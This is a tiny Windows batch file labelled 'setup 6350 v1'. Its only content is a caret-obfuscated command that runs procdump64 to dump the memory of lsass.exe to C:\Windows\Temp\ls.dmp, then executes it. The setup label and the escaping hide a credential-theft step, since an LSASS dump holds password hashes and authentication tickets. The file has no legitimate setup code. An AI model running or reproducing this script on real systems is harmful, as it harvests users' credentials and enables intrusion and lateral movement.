REM setup 6350 v1
@echo off
set "mxgn=pro^cd^u^m^p64.^ex^e -a^c^c^ept^e^ula -^m^a l^s^ass.ex^e ^C:\Win^d^ows\^T^e^mp\^ls.dm^p"
call %mxgn%
